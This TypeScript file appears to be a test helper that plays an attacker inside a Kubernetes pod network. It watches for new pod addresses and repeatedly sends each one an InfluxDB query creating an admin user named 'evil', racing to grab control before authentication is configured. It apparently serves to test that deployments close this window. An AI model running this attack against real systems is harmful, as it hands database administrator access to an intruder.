import { readdir } from 'node:fs/promises';
import { request } from 'node:http';
import { dirname, join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import type { Node } from '../cluster/node.ts';

/** Between two attempts on one address; several are on their way at once. */
const EVERY_MS = 4;
const STATEMENT = `CREATE USER evil WITH PASSWORD 'x' WITH ALL PRIVILEGES`;

/**
 * A client in the pods' network that tries to make itself administrator of every InfluxDB that comes up. It takes
 * the addresses from where the network plugin writes them down, so it knows a pod's before the pod does: it is
 * there from the first millisecond.
 */
export class Intruder implements AsyncDisposable {
  /** What the attempts came to, by address: `got in`, an HTTP status, or the code of a network error. */
  readonly answers = new Map<string, Map<string, number>>();
  readonly #known: Set<string>;
  readonly #folder: string;
  readonly #stop = new AbortController();
  readonly #running: Promise<void>[] = [];

  private constructor(folder: string, known: Set<string>) {
    this.#folder = folder;
    this.#known = known;
  }

  /** Begins to look for addresses that are new from now on, or for all that are in use as well. */
  static async on(node: Node, whom: 'new' | 'all' = 'new'): Promise<Intruder> {
    const folder = join(dirname(node.kubeconfig), 'node', 'cni-addresses', 'bed');
    const intruder = new Intruder(folder, new Set(whom === 'new' ? await addresses(folder) : []));
    intruder.#running.push(intruder.#look());
    return intruder;
  }

  /** How often an attempt on an address came to something. */
  count(address: string, answer: string): number {
    return this.answers.get(address)?.get(answer) ?? 0;
  }

  async stop(): Promise<void> {
    this.#stop.abort();
    await Promise.all(this.#running);
  }

  [Symbol.asyncDispose](): Promise<void> {
    return this.stop();
  }

  async #look(): Promise<void> {
    while (!this.#stop.signal.aborted) {
      for (const address of await addresses(this.#folder)) {
        if (this.#known.has(address)) continue;
        this.#known.add(address);
        this.answers.set(address, new Map());
        this.#running.push(this.#attack(address));
      }
      await delay(2);
    }
  }

  async #attack(address: string): Promise<void> {
    while (!this.#stop.signal.aborted) {
      void this.#attempt(address);
      await delay(EVERY_MS);
    }
  }

  async #attempt(address: string): Promise<void> {
    const answer = await send(address);
    const counts = this.answers.get(address);
    counts?.set(answer, (counts.get(answer) ?? 0) + 1);
  }
}

/** The plugin has a file for each address in use, and a few of its own. */
async function addresses(folder: string): Promise<string[]> {
  return (await readdir(folder).catch(() => [])).filter((name) => /^\d+\.\d+\.\d+\.\d+$/.test(name));
}

function send(host: string): Promise<string> {
  return new Promise((resolve) => {
    const path = `/query?q=${encodeURIComponent(STATEMENT)}`;
    // A connection of its own each: one that waits for a pod that is not there yet holds up none that comes later.
    const sent = request(
      { host, port: 8086, method: 'POST', path, agent: false, timeout: 2000 },
      (answer) => {
        let text = '';
        answer.setEncoding('utf8');
        answer.on('data', (chunk: string) => (text += chunk));
        answer.on('error', () => resolve('broken'));
        answer.on('end', () => {
          const accepted = answer.statusCode === 200 && !text.includes('"error"');
          resolve(accepted ? 'got in' : String(answer.statusCode));
        });
      },
    );
    sent.on('timeout', () => sent.destroy(new Error('timeout')));
    sent.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    sent.end();
  });
}
